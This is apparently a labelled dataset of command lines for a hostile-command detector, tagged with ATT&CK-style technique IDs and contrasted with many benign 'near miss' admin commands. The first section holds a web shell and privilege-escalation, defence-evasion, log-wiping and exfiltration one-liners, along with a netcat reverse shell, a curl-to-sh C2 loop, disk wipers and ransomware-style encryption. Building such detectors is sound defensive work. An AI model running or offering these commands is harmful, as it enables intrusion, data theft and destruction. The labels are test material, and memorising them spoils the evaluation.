ac-echo-page-language cmd +T1505.003: echo ^<%@ Page Language="Jscript"%^>^<%eval(Request.Item["‹name›"],"unsafe");%^> > C:\inetpub\wwwroot\‹name›.aspx
# T1548.001
ac-chmod-u-s bash +T1548.001: chmod u+s /bin/bash
ac-cp-bin-bash bash +T1548.001: cp /bin/bash /tmp/.‹name›; chmod 4755 /tmp/.‹name›
ac-setcap-cap-setuid bash +T1548.001: setcap cap_setuid+ep /tmp/‹name›
# T1548.002
ac-reg-add-hkcu-n3 cmd +T1548.002: reg add HKCU\Software\Classes\ms-settings\Shell\Open\command /v DelegateExecute /d "" /f & fodhelper.exe
ac-reg-add-hkcu-n4 cmd +T1548.002: reg add HKCU\Software\Classes\mscfile\shell\open\command /ve /d C:\Users\Public\‹name›.exe /f & eventvwr.exe
ac-reg-add-hklm-n3 cmd +T1548.002: reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA /t REG_DWORD /d 0 /f
# T1548.003
ac-sudo-l bash +T1548.003: sudo -l
ac-echo-all-all bash +T1548.003: echo "‹name› ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers
# T1134.001
ac-mimikatz-privilege-debug-n4 cmd +T1134.001: mimikatz.exe "privilege::debug" "token::elevate" exit
ac-printspoofer64-i-cmd cmd +T1134.001: PrintSpoofer64.exe -i -c cmd
ac-juicypotato-l-p cmd +T1134.001: JuicyPotato.exe -l ‹port› -p C:\Windows\System32\cmd.exe -t *
ac-godpotato-net4-cmd cmd +T1134.001: GodPotato-NET4.exe -cmd "cmd /c whoami"
# T1068
ac-linpeas-sh bash +T1068: ./linpeas.sh
ac-gcc-dirtycow-o bash +T1068: gcc dirtycow.c -o /tmp/‹name› -lpthread -lcrypt && /tmp/‹name›
# T1611
ac-docker-run-v bash +T1611: docker run -v /:/mnt --rm -it alpine chroot /mnt sh
ac-nsenter-target-1 bash +T1611: nsenter --target 1 --mount --uts --ipc --net --pid -- bash
# T1574.006
ac-echo-tmp-so bash +T1574.006: echo /tmp/‹name›.so >> /etc/ld.so.preload
ac-ld-preload-tmp bash +T1574.006: LD_PRELOAD=/tmp/‹name›.so /usr/bin/sudo
# T1055.001
ac-mavinject-injectrunning-users cmd +T1055.001: mavinject.exe ‹pid› /INJECTRUNNING C:\Users\Public\‹name›.dll
# T1140
ac-certutil-decode-b64 cmd +T1140: certutil -decode ‹name›.b64 ‹name›.exe
ac-certutil-decodehex-hex cmd +T1140: certutil -decodehex ‹name›.hex ‹name›.dll
ac-echo-base64-d bash +T1140: echo ‹hash›‹hash› | base64 -d > /tmp/‹name›
ac-base64-d-tmp bash +T1140: base64 -d /tmp/‹name›.b64 | sh
ac-openssl-enc-aes bash +T1140: openssl enc -aes-256-cbc -d -in /tmp/‹name›.enc -out /tmp/‹name› -k '‹pass›'
ac-io-file-writeallbytes powershell +T1140: [IO.File]::WriteAllBytes("$env:TEMP\‹name›.exe",[Convert]::FromBase64String((gc $env:TEMP\‹name›.txt)))
# T1070.003
ac-clear-history-remove powershell +T1070.003: Clear-History; Remove-Item (Get-PSReadLineOption).HistorySavePath
ac-history bash +T1070.003: history -c
ac-rm-bash-history bash +T1070.003: rm ~/.bash_history
ac-cat-dev-null bash +T1070.003: cat /dev/null > ~/.bash_history
ac-ln-sf-dev bash +T1070.003: ln -sf /dev/null ~/.bash_history
# T1690
ac-unset-histfile bash +T1690: unset HISTFILE
ac-export-histsize-0 bash +T1690: export HISTSIZE=0
ac-export-histfile-dev bash +T1690: export HISTFILE=/dev/null
# T1070.004
ac-del-f-q cmd +T1070.004: del /f /q C:\Users\Public\‹name›.exe
ac-sdelete-accepteula-users cmd +T1070.004: sdelete.exe -accepteula C:\Users\Public\‹name›.exe
ac-ping-127-0 cmd +T1070.004: ping 127.0.0.1 -n 3 > nul & del /f /q %TEMP%\‹name›.exe
ac-rm-f-tmp bash +T1070.004: rm -f /tmp/.‹name› /dev/shm/‹name›
ac-shred-u-tmp bash +T1070.004: shred -u /tmp/‹name›
# T1070.006
ac-touch-r-bin bash +T1070.006: touch -r /bin/ls /tmp/‹name›
ac-touch-t-201501010101 bash +T1070.006: touch -t 201501010101 /usr/bin/‹name›
ac-get-item-users powershell +T1070.006: (Get-Item C:\Users\Public\‹name›.exe).CreationTime = '01/01/2015 01:01:01'
# T1685.005
ac-wevtutil-cl-security cmd +T1685.005: wevtutil cl Security
ac-wevtutil-cl-system cmd +T1685.005: wevtutil cl System & wevtutil cl Application
ac-for-f-x cmd +T1685.005: for /f %x in ('wevtutil el') do wevtutil cl "%x"
ac-clear-eventlog-logname powershell +T1685.005: Clear-EventLog -LogName Security
# T1685.006
ac-rm-rf-var bash +T1685.006: rm -rf /var/log/*
ac-echo-var-log bash +T1685.006: echo > /var/log/auth.log
ac-var-log-wtmp bash +T1685.006: > /var/log/wtmp
ac-journalctl-rotate-vacuum bash +T1685.006: journalctl --rotate --vacuum-time=1s
# T1685.001
ac-auditpol-clear-y cmd +T1685.001: auditpol /clear /y
ac-auditpol-set-category cmd +T1685.001: auditpol /set /category:* /success:disable /failure:disable
# T1685.004
ac-auditctl-e-0 bash +T1685.004: auditctl -e 0
# T1685
ac-sc-stop-windefend cmd +T1685: sc stop WinDefend
ac-program-files-windows cmd +T1685: "C:\Program Files\Windows Defender\MpCmdRun.exe" -RemoveDefinitions -All
ac-fltmc-unload-sysmondrv cmd +T1685: fltmc unload SysmonDrv
ac-set-mppreference-disablerealtimemonitoring powershell +T1685: Set-MpPreference -DisableRealtimeMonitoring $true
ac-add-mppreference-exclusionpath powershell +T1685: Add-MpPreference -ExclusionPath C:\Users\Public
ac-ref-assembly-gettype powershell +T1685: [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
ac-setenforce-0 bash +T1685: setenforce 0
ac-systemctl-stop-falcon bash +T1685: systemctl stop falcon-sensor
ac-systemctl-stop-auditd bash +T1685: systemctl stop auditd
# T1686.003
ac-netsh-advfirewall-set cmd +T1686.003: netsh advfirewall set allprofiles state off
ac-netsh-firewall-set cmd +T1686.003: netsh firewall set opmode disable
ac-set-netfirewallprofile-profile powershell +T1686.003: Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
# T1686
ac-iptables-f bash +T1686: iptables -F
ac-ufw-disable bash +T1686: ufw disable
# T1688
ac-bcdedit-set-default cmd +T1688: bcdedit /set {default} safeboot network
ac-bcdedit-set-safeboot cmd +T1688: bcdedit /set safeboot minimal & shutdown /r /f /t 0
# T1222.001
ac-takeown-f-windows cmd +T1222.001: takeown /f C:\Windows\System32\‹name›.dll
ac-icacls-grant-everyone cmd +T1222.001: icacls C:\* /grant Everyone:F /T /C /Q
# T1222.002
ac-chattr-i-etc bash +T1222.002: chattr -i /etc/ld.so.preload
ac-chmod-777-etc bash +T1222.002: chmod 777 /etc/shadow
# T1564.001
ac-attrib-h-s cmd +T1564.001: attrib +h +s C:\Users\Public\‹name›.exe
ac-mkdir-tmp-mv bash +T1564.001: mkdir /tmp/.‹name›; mv ‹name› /tmp/.‹name›/
# T1564.003
ac-powershell-w-hidden cmd +T1564.003: powershell -w hidden -c C:\Users\Public\‹name›.exe
# T1564.004
ac-type-users-public cmd +T1564.004: type ‹name›.exe > C:\Users\Public\readme.txt:‹name›.exe
ac-wmic-process-call-n4 cmd +T1564.004: wmic process call create C:\Users\Public\readme.txt:‹name›.exe
# T1036.003
ac-copy-windows-system32-n2 cmd +T1036.003: copy C:\Windows\System32\cmd.exe C:\Users\Public\svchost.exe
ac-copy-windows-system32-n3 cmd +T1036.003: copy C:\Windows\System32\rundll32.exe %TEMP%\‹name›.exe
# T1036.005
ac-move-users-public cmd +T1036.005: move C:\Users\Public\‹name›.exe C:\ProgramData\svchost.exe
ac-cp-tmp-usr bash +T1036.005: cp /tmp/‹name› /usr/sbin/sshd_ && /usr/sbin/sshd_
ac-mv-tmp-xmrig bash +T1036.005: mv /tmp/xmrig /tmp/[kworker]
# T1112
ac-reg-add-hklm-n4 cmd +T1112: reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f
ac-reg-add-hklm-n5 cmd +T1112: reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v DisableRestrictedAdmin /t REG_DWORD /d 0 /f
# T1027.004
ac-windows-microsoft-net-n2 cmd +T1027.004: C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe /out:C:\Users\Public\‹name›.exe C:\Users\Public\‹name›.cs
# T1620
ac-reflection-assembly-load powershell +T1620: [Reflection.Assembly]::Load((iwr http://‹ip›/‹name›.dll -UseBasicParsing).Content)
# T1553.004
ac-certutil-addstore-f cmd +T1553.004: certutil -addstore -f root ‹name›.cer
# T1553.005
ac-mount-diskimage-imagepath powershell +T1553.005: Mount-DiskImage -ImagePath $env:TEMP\‹name›.iso
ac-unblock-file-env powershell +T1553.005: Unblock-File $env:USERPROFILE\Downloads\‹name›.exe
# T1553.006
ac-bcdedit-set-testsigning cmd +T1553.006: bcdedit /set testsigning on
# T1021.001
ac-mstsc-v-restrictedadmin cmd +T1021.001: mstsc /v:‹ip› /restrictedadmin
# T1021.002
ac-net-use-user cmd +T1021.002: net use \\‹server›\C$ /user:‹domain›\‹user› ‹pass›
ac-net-use-admin cmd +T1021.002: net use \\‹ip›\ADMIN$ ‹pass› /user:Administrator
ac-smbclient-u bash +T1021.002: smbclient //‹ip›/C$ -U ‹domain›/‹user›%'‹pass›'
ac-smbexec-py bash +T1021.002: smbexec.py ‹domain›/‹user›:'‹pass›'@‹ip›
# T1021.003
ac-activator-createinstance-type powershell +T1021.003: [activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','‹ip›')).Document.ActiveView.ExecuteShellCommand('cmd.exe',$null,'/c calc','7')
ac-dcomexec-py-object bash +T1021.003: dcomexec.py -object MMC20 ‹domain›/‹user›:'‹pass›'@‹ip›
# T1021.006
ac-winrs-r-u cmd +T1021.006: winrs -r:‹server› -u:‹domain›\‹user› -p:‹pass› cmd
ac-enter-pssession-computername powershell +T1021.006: Enter-PSSession -ComputerName ‹server› -Credential $cred
ac-invoke-command-computername-n2 powershell +T1021.006: Invoke-Command -ComputerName ‹server› -ScriptBlock { C:\Users\Public\‹name›.exe }
ac-evil-winrm-i-n2 bash +T1021.006: evil-winrm -i ‹ip› -u ‹user› -p '‹pass›'
# T1563.002
ac-tscon-dest-rdp cmd +T1563.002: tscon ‹n› /dest:rdp-tcp#‹n›
ac-sc-create-sesshijack cmd +T1563.002: sc create sesshijack binpath= "cmd.exe /k tscon ‹n› /dest:rdp-tcp#‹n›"
# T1570
ac-copy-users-public cmd +T1570: copy C:\Users\Public\‹name›.exe \\‹server›\C$\Windows\Temp\
ac-robocopy-programdata-admin cmd +T1570: robocopy C:\ProgramData\‹name› \\‹server›\ADMIN$\Temp ‹name›.exe
ac-scp-tmp-root bash +T1570: scp /tmp/‹name› root@‹ip›:/tmp/
# T1113
ac-add-type-assemblyname-n2 powershell +T1113: Add-Type -AssemblyName System.Windows.Forms,System.Drawing; $b=New-Object Drawing.Bitmap 1920,1080; ([Drawing.Graphics]::FromImage($b)).CopyFromScreen(0,0,0,0,$b.Size); $b.Save("$env:TEMP\‹name›.png")
ac-import-window-root bash +T1113: import -window root /tmp/‹name›.png
ac-xwd-root-out bash +T1113: xwd -root -out /tmp/‹name›.xwd
# T1115
ac-get-clipboard powershell +T1115: Get-Clipboard
ac-windows-forms-clipboard powershell +T1115: [Windows.Forms.Clipboard]::GetText()
ac-xclip-o-selection bash +T1115: xclip -o -selection clipboard
# T1005
ac-copy-users-documents cmd +T1005: copy C:\Users\‹user›\Documents\*.docx C:\Users\Public\‹name›\
# T1039
ac-xcopy-finance-xlsx cmd +T1039: xcopy \\‹server›\finance$\*.xlsx C:\Users\Public\‹name›\ /s /y
# T1074.001
ac-mkdir-users-public cmd +T1074.001: mkdir C:\Users\Public\‹name› & xcopy C:\Users\‹user›\Documents C:\Users\Public\‹name› /s /e /h /y
ac-mkdir-p-tmp bash +T1074.001: mkdir -p /tmp/.‹name›; find /home -name "*.pdf" -exec cp {} /tmp/.‹name› \;
# T1119
ac-for-r-users cmd +T1119: for /R C:\Users %f in (*.docx *.pdf) do copy "%f" C:\Users\Public\‹name›
# T1123
ac-get-microphoneaudio-path powershell +T1123: Get-MicrophoneAudio -Path $env:TEMP\‹name›.wav -Length 60
# T1114.001
ac-copy-users-documents-n2 cmd +T1114.001: copy "C:\Users\‹user›\Documents\Outlook Files\*.pst" C:\Users\Public\‹name›
# T1560.001
ac-rar-a-hp cmd +T1560.001: rar.exe a -hp‹pass› C:\Users\Public\‹name›.rar C:\Users\‹user›\Documents
ac-7z-a-p cmd +T1560.001: 7z.exe a -p‹pass› -mhe=on C:\ProgramData\‹name›.7z \\‹server›\share
ac-compress-archive-path powershell +T1560.001: Compress-Archive -Path C:\Users\‹user›\Documents -DestinationPath C:\Users\Public\‹name›.zip
ac-tar-czf-tmp bash +T1560.001: tar czf /tmp/.‹name›.tgz /home /root /etc
ac-zip-r-p bash +T1560.001: zip -r -P '‹pass›' /tmp/‹name›.zip /var/www /home
# T1071.001
ac-while-true-do bash +T1071.001: while true; do curl -s http://‹ip›/cmd/‹name› | sh | curl -s -d @- http://‹ip›/out/‹name›; sleep 60; done
# T1071.004
ac-dnscat2-dns-server cmd +T1071.004: dnscat2.exe --dns server=‹ip›,port=53 --secret=‹hash›
ac-iodine-f-p bash +T1071.004: iodine -f -P '‹pass›' t1.‹fqdn›
ac-dnscat-secret bash +T1071.004: ./dnscat --secret=‹hash› ‹fqdn›
# T1090
ac-netsh-interface-portproxy cmd +T1090: netsh interface portproxy add v4tov4 listenport=‹port› listenaddress=0.0.0.0 connectport=3389 connectaddress=‹ip›
ac-frpc-users-public cmd +T1090: frpc.exe -c C:\Users\Public\frpc.ini
# T1090.003
ac-proxychains-nmap-st bash +T1090.003: proxychains nmap -sT -Pn ‹ip›
# T1095
ac-nc-lvnp bash +T1095: nc -lvnp ‹port›
ac-nc-e-cmd cmd +T1095: nc.exe ‹ip› ‹port› -e cmd.exe
# T1572
ac-ssh-fn-r bash +T1572: ssh -fN -R ‹port›:127.0.0.1:22 ‹user›@‹ip›
ac-chisel-client-8080 bash +T1572: chisel client ‹ip›:8080 R:socks
ac-plink-ssh-r cmd +T1572: plink.exe -ssh -R ‹port›:127.0.0.1:3389 ‹user›@‹ip› -pw ‹pass›
ac-ngrok-tcp-3389 cmd +T1572: ngrok.exe tcp 3389
ac-chisel-client-http cmd +T1572: chisel.exe client http://‹ip›:8080 R:1080:socks
# T1219
ac-anydesk-install-programdata cmd +T1219: AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent
ac-echo-programdata-anydesk cmd +T1219: echo ‹pass› | C:\ProgramData\AnyDesk.exe --set-password
# T1048.003
ac-curl-t-tmp bash +T1048.003: curl -T /tmp/‹name›.tgz ftp://‹ip›/
ac-nc-w-3 bash +T1048.003: nc -w 3 ‹ip› ‹port› < /tmp/‹name›.tgz
ac-for-b-in bash +T1048.003: for b in $(xxd -p -c 30 /etc/passwd); do dig $b.‹fqdn›; done
ac-ftp-s-users cmd +T1048.003: ftp.exe -s:C:\Users\Public\‹name›.txt ‹ip›
# T1048.002
ac-scp-tmp-tgz bash +T1048.002: scp /tmp/‹name›.tgz ‹user›@‹ip›:/srv/in/
# T1041
ac-invoke-restmethod-uri powershell +T1041: Invoke-RestMethod -Uri http://‹ip›/upload -Method Post -InFile C:\Users\Public\‹name›.zip
# T1567.002
ac-rclone-copy-share cmd +T1567.002: rclone.exe copy \\‹server›\share mega:‹name› -q --ignore-existing --auto-confirm --multi-thread-streams 12
ac-rclone-copy-srv bash +T1567.002: rclone copy /srv/data remote:‹name› --transfers 32 -q
# T1485
ac-del-s-f cmd +T1485: del /s /f /q C:\Users\*.*
ac-format-d-q cmd +T1485: format D: /q /y
ac-rm-rf-no bash +T1485: rm -rf / --no-preserve-root
ac-shred-n-3 bash +T1485: shred -n 3 -z /dev/sda
# T1561.002
ac-dd-if-dev bash +T1561.002: dd if=/dev/zero of=/dev/sda bs=512 count=1
# T1561.001
ac-dd-if-dev-n2 bash +T1561.001: dd if=/dev/urandom of=/dev/sda bs=4M
# T1486
ac-find-home-type bash +T1486: find /home -type f -exec gpg --batch --yes -c --passphrase '‹pass›' {} \; -exec rm {} \;
ac-find-var-www bash +T1486: find /var/www -type f -exec openssl enc -aes-256-cbc -salt -in {} -out {}.locked -k '‹pass›' \;
ac-manage-bde-on cmd +T1486: manage-bde -on D: -pw -used -em aes256
# T1489
ac-net-stop-mssqlserver cmd +T1489: net stop MSSQLSERVER /y
ac-taskkill-f-im cmd +T1489: taskkill /f /im sqlservr.exe
ac-get-service-sql powershell +T1489: Get-Service *sql*,*veeam*,*backup* | Stop-Service -Force
# T1490
ac-vssadmin-delete-shadows cmd +T1490: vssadmin delete shadows /all /quiet
ac-wmic-shadowcopy-delete cmd +T1490: wmic shadowcopy delete
ac-bcdedit-set-default-n2 cmd +T1490: bcdedit /set {default} recoveryenabled no
ac-wbadmin-delete-catalog cmd +T1490: wbadmin delete catalog -quiet
ac-reagentc-disable cmd +T1490: reagentc /disable
ac-get-wmiobject-win32-n5 powershell +T1490: Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }
# T1496.001
ac-xmrig-o-pool bash +T1496.001: ./xmrig -o pool.supportxmr.com:3333 -u ‹hash›‹hash› -p x
ac-xmrig-o-stratum cmd +T1496.001: xmrig.exe -o stratum+tcp://‹ip›:3333 -u ‹hash› --donate-level=1
# T1529
ac-shutdown-h-now bash +T1529: shutdown -h now
ac-echo-b-proc bash +T1529: echo b > /proc/sysrq-trigger
# T1531
ac-net-user-delete cmd +T1531: net user ‹user› /delete
ac-passwd-l-root bash +T1531: passwd -l root; usermod -L ‹user›
ac-pkill-kill-u bash +T1531: pkill -KILL -u ‹user›; userdel -r ‹user›
# T1499
ac-line bash +T1499: :(){ :|:& };:
ac-hping3-s-flood bash +T1499: hping3 -S --flood -p 80 ‹ip›
# T1491.001
ac-echo-hacked-by bash +T1491.001: echo "HACKED BY ‹name›" > /var/www/html/index.html
# Near misses
ac-near-netstat-s cmd: netstat -s
ac-near-netstat-e cmd: netstat -e
ac-near-netstat cmd: netstat /?
ac-near-net-user cmd: net user /?
ac-near-net-help-user cmd: net help user
ac-near-net-session cmd: net session /?
ac-near-net-use cmd: net use /?
ac-near-net-file cmd: net file /?
ac-near-net-use-z cmd: net use Z: \\‹server›\‹project› /persistent:yes
ac-near-net-use-z-n2 cmd: net use Z: /delete
ac-near-nbtstat-r cmd: nbtstat -R
ac-near-nbtstat-rr cmd: nbtstat -RR
ac-near-nbtstat cmd: nbtstat /?
ac-near-netsh-interface-set cmd: netsh interface set interface "Ethernet" enabled
ac-near-netsh-interface-ipv4 cmd: netsh interface ipv4 set dnsservers "Ethernet" static ‹ip›
ac-near-netsh-interface-tcp cmd: netsh interface tcp show global
ac-near-netsh-int-tcp cmd: netsh int tcp set global autotuninglevel=normal
ac-near-netsh-winhttp-show cmd: netsh winhttp show proxy
ac-near-openfiles-local cmd: openfiles /local
ac-near-wmic cmd: wmic /?
ac-near-wmic-useraccount cmd: wmic useraccount /?
ac-near-wmic-netuse cmd: wmic netuse /?
ac-near-wmic-bios-get cmd: wmic bios get serialnumber
ac-near-wmic-cpu-get cmd: wmic cpu get name,loadpercentage
ac-near-wmic-datafile-where cmd: wmic datafile where name="C:\\Program Files\\‹Word›\\‹word›.exe" get version
ac-near-wmic-os-get cmd: wmic os get lastbootuptime
ac-near-schtasks-run-tn cmd: schtasks /run /tn "\‹Word›\‹Word› Update"
ac-near-schtasks-run-tn-n2 cmd: schtasks /run /tn "GoogleUpdateTaskMachineUA"
ac-near-schtasks-end-tn cmd: schtasks /end /tn "\‹Word›\Nightly Report"
ac-near-schtasks-query-tn cmd: schtasks /query /tn "\Microsoft\Windows\UpdateOrchestrator\Schedule Scan"
ac-near-schtasks-change-tn cmd: schtasks /change /tn "\‹Word›\Sync" /enable
ac-near-schtasks cmd: schtasks /?
ac-near-sc-query-agent cmd: sc query ‹Word›Agent
ac-near-sc-qc-agent cmd: sc qc ‹Word›Agent
ac-near-sc-start-agent cmd: sc start ‹Word›Agent
ac-near-sc-query-type cmd: sc query type= /?
ac-near-sc-failure-agent cmd: sc failure ‹Word›Agent reset= 3600 actions= restart/5000/restart/5000
ac-near-certutil-hashfile-setup cmd: certutil -hashfile ‹dir›\setup.exe SHA256
ac-near-certutil-verify-cer cmd: certutil -verify ‹word›.cer
ac-near-certutil-dump-crt cmd: certutil -dump ‹word›.crt
ac-near-certutil-store-my cmd: certutil -store My
ac-near-certutil-ping cmd: certutil -ping
ac-near-certutil-pulse cmd: certutil -pulse
ac-near-certutil cmd: certutil -?
ac-near-bitsadmin-list cmd: bitsadmin /list
ac-near-bitsadmin-list-allusers cmd: bitsadmin /list /allusers /verbose
ac-near-bitsadmin-util-version cmd: bitsadmin /util /version
ac-near-bitsadmin cmd: bitsadmin /?
ac-near-reg-query-hklm cmd: reg query HKLM\SOFTWARE\‹Word› /v Version
ac-near-reg-query-hkcu cmd: reg query HKCU\Software\‹Word›\Settings
ac-near-reg-query-hklm-n2 cmd: reg query "HKLM\SOFTWARE\Microsoft\NET Framework Setup\NDP\v4\Full" /v Release
ac-near-reg-save-hkcu cmd: reg save HKCU\Software\‹Word› ‹dir›\‹word›.hiv
ac-near-reg-export-hkcu cmd: reg export HKCU\Software\‹Word› ‹dir›\‹word›.reg /y
ac-near-reg-save cmd: reg save /?
ac-near-reg-copy-hklm cmd: reg copy HKLM\SOFTWARE\‹Word› HKLM\SOFTWARE\‹Word›.old /s
ac-near-procdump-ma-e cmd: procdump -ma -e w3wp.exe C:\dumps
ac-near-procdump64-accepteula-h cmd: procdump64.exe -accepteula -h ‹word›.exe C:\dumps\‹word›.dmp
ac-near-procdump cmd: procdump -?
ac-near-rundll32-shell32-dll cmd: rundll32.exe shell32.dll,Control_RunDLL desk.cpl
ac-near-rundll32-printui-dll cmd: rundll32.exe printui.dll,PrintUIEntry /il
ac-near-rundll32-user32-dll cmd: rundll32.exe user32.dll,LockWorkStation
ac-near-rundll32-sysdm-cpl cmd: rundll32.exe sysdm.cpl,EditEnvironmentVariables
ac-near-robocopy-d-backup cmd: robocopy D:\‹project› \\‹server›\backup\‹project› /mir /r:2 /w:5 /log:C:\Logs\robocopy.log
ac-near-robocopy cmd: robocopy /?
ac-near-esentutl-mh-programdata cmd: esentutl /mh "C:\ProgramData\Microsoft\Search\Data\Applications\Windows\Windows.edb"
ac-near-esentutl cmd: esentutl /?
ac-near-vssadmin-list-writers cmd: vssadmin list writers
ac-near-vssadmin-list-shadows cmd: vssadmin list shadows
ac-near-vssadmin-list-shadowstorage cmd: vssadmin list shadowstorage
ac-near-wbadmin-get-versions cmd: wbadmin get versions
ac-near-wbadmin-get-status cmd: wbadmin get status
ac-near-bcdedit-enum cmd: bcdedit /enum
ac-near-bcdedit-timeout-10 cmd: bcdedit /timeout 10
ac-near-wevtutil-gl-application cmd: wevtutil gl Application
ac-near-wevtutil cmd: wevtutil /?
ac-near-wevtutil-epl-application cmd: wevtutil epl Application ‹dir›\app.evtx
ac-near-auditpol-get-category cmd: auditpol /get /category:*
ac-near-auditpol-list-subcategory cmd: auditpol /list /subcategory:*
ac-near-whoami cmd: whoami /?
ac-near-systeminfo cmd: systeminfo /?
ac-near-tasklist cmd: tasklist /?
ac-near-tasklist-fi-imagename cmd: tasklist /fi "imagename eq ‹word›.exe"
ac-near-tasklist-fi-status cmd: tasklist /fi "status eq not responding"
ac-near-taskkill-im cmd: taskkill /im ‹word›.exe
ac-near-taskkill cmd: taskkill /?
ac-near-query-user cmd: query user /?
ac-near-ipconfig cmd: ipconfig
ac-near-ipconfig-flushdns cmd: ipconfig /flushdns
ac-near-ipconfig-renew cmd: ipconfig /renew
ac-near-arp-d cmd: arp -d *
ac-near-route-add-mask cmd: route add ‹ip› mask 255.255.255.0 ‹ip›
ac-near-nslookup-www cmd: nslookup www.‹fqdn›
ac-near-ping-t cmd: ping -t ‹server›
ac-near-tracert cmd: tracert ‹server›.‹fqdn›
ac-near-hostname cmd: hostname /?
ac-near-driverquery cmd: driverquery /?
ac-near-gpupdate-force cmd: gpupdate /force
ac-near-gpresult cmd: gpresult /?
ac-near-nltest-dsgetsite cmd: nltest /dsgetsite
ac-near-klist-purge cmd: klist purge
ac-near-setspn-l-svc cmd: setspn -L svc_‹word›
ac-near-dir-log-od cmd: dir *.log /od
ac-near-attrib-r-txt cmd: attrib -r ‹word›.txt
ac-near-tree cmd: tree /?
ac-near-where cmd: where ‹word›.exe
ac-near-where-python cmd: where python
ac-near-findstr-error-logs cmd: findstr /c:"ERROR" C:\Logs\‹word›.log
ac-near-findstr-i-warning cmd: findstr /i "warning" build.log
ac-near-find-failed-logs cmd: find /c "failed" C:\Logs\‹word›.log
ac-near-type-logs-log cmd: type C:\Logs\‹word›.log | more
ac-near-copy-report-xlsx cmd: copy report.xlsx \\‹server›\‹project›\reports\
ac-near-xcopy-d-build cmd: xcopy D:\Build\out \\‹server›\drops\‹project› /s /y
ac-near-icacls-d-grant cmd: icacls D:\‹project› /grant "‹domain›\‹Word› Users:(OI)(CI)M"
ac-near-takeown cmd: takeown /?
ac-near-icacls-d-save cmd: icacls "D:\‹project›" /save ‹dir›\acl.txt /t
ac-near-netsh-advfirewall-reset cmd: netsh advfirewall reset
ac-near-netsh-advfirewall-firewall cmd: netsh advfirewall firewall add rule name="‹Word› HTTPS" dir=in action=allow protocol=TCP localport=443
ac-near-msiexec-i-x64 cmd: msiexec /i ‹word›-x64.msi /qn /norestart
ac-near-msiexec-x-qn cmd: msiexec /x {‹guid›} /qn
ac-near-regsvr32-s-program cmd: regsvr32 /s "C:\Program Files\‹Word›\‹word›.dll"
ac-near-shutdown-r-t cmd: shutdown /r /t 600 /c "‹Word› maintenance"
ac-near-shutdown-a cmd: shutdown /a
ac-near-curl-i-https cmd: curl.exe -I https://www.‹fqdn›/
ac-near-curl-s-http cmd: curl.exe -s http://localhost:‹port›/health
ac-near-net-stop-agent cmd: net stop ‹Word›Agent && net start ‹Word›Agent
ac-near-net-start-print cmd: net start "Print Spooler"
ac-near-net-time cmd: net time /?
ac-near-net-view cmd: net view /?
ac-near-net-share cmd: net share /?
ac-near-net-localgroup cmd: net localgroup /?
ac-near-net-accounts cmd: net accounts /?
ac-near-w32tm-resync cmd: w32tm /resync
ac-near-w32tm-query-status cmd: w32tm /query /status
ac-near-dism-online-cleanup cmd: dism /online /cleanup-image /restorehealth
ac-near-sfc-scannow cmd: sfc /scannow
ac-near-chkdsk-d-scan cmd: chkdsk D: /scan
ac-near-defrag-o cmd: defrag C: /O
ac-near-fsutil-dirty-query cmd: fsutil dirty query C:
ac-near-cipher cmd: cipher /?
ac-near-mstsc-v cmd: mstsc /v:‹server›.‹fqdn›
ac-near-cmdkey cmd: cmdkey /?
ac-near-python-m-pip cmd: python -m pip list
ac-near-python-import-sys cmd: python -c "import sys; print(sys.version)"
ac-near-python-import-psutil cmd: python -c "import psutil; print(psutil.cpu_percent(1), psutil.virtual_memory().percent)"
ac-near-perl-v cmd: perl -v
ac-near-cscript-nologo-program cmd: cscript //nologo "C:\Program Files\Microsoft Office\Office16\OSPP.VBS" /dstatus
ac-near-cscript-nologo-windows cmd: cscript //nologo C:\Windows\System32\slmgr.vbs /dli
ac-near-program-files-7 cmd: "C:\Program Files\7-Zip\7z.exe" x ‹word›.zip -oD:\‹project›
ac-near-tar-xf-zip cmd: tar -xf ‹word›-‹n›.zip -C D:\‹project›
ac-near-rclone-version cmd: rclone.exe version
ac-near-mimikatz-detection-rules text: mimikatz detection rules updated, see ticket ‹pid›
ac-near-get-help-get powershell: Get-Help Get-NetTCPConnection
ac-near-get-help-get-n2 powershell: Get-Help Get-NetTCPConnection -Examples
ac-near-get-command-nettcp powershell: Get-Command *NetTCP*
ac-near-get-help-get-n3 powershell: Get-Help Get-LocalUser -Full
ac-near-get-command-module powershell: Get-Command -Module Microsoft.PowerShell.LocalAccounts
ac-near-get-help-invoke powershell: Get-Help Invoke-WebRequest -Online
ac-near-get-nettcpsetting powershell: Get-NetTCPSetting
ac-near-test-netconnection-port powershell: Test-NetConnection ‹server› -Port 443
ac-near-get-netadapter powershell: Get-NetAdapter
ac-near-get-netipaddress powershell: Get-NetIPAddress
ac-near-get-netadapterstatistics powershell: Get-NetAdapterStatistics
ac-near-get-service-agent powershell: Get-Service ‹Word›Agent
ac-near-restart-service-agent powershell: Restart-Service ‹Word›Agent
ac-near-get-process-select powershell: Get-Process ‹word› | select CPU,WorkingSet
ac-near-get-process-id powershell: Get-Process -Id $PID
ac-near-get-help-about powershell: Get-Help about_Execution_Policies
ac-near-get-executionpolicy-list powershell: Get-ExecutionPolicy -List
ac-near-get-filehash-setup powershell: Get-FileHash ‹dir›\setup.exe -Algorithm SHA256
ac-near-get-scheduledtask-taskname powershell: Get-ScheduledTask -TaskName "‹Word› Update" | Start-ScheduledTask
ac-near-get-bitstransfer powershell: Get-BitsTransfer
ac-near-get-mppreference-select powershell: Get-MpPreference | select ScanScheduleDay,ScanScheduleTime
ac-near-update-mpsignature powershell: Update-MpSignature
ac-near-start-mpscan-scantype powershell: Start-MpScan -ScanType QuickScan
ac-near-set-mppreference-disablerealtimemonitoring powershell: Set-MpPreference -DisableRealtimeMonitoring $false
ac-near-get-smbserverconfiguration-select powershell: Get-SmbServerConfiguration | select EnableSMB1Protocol
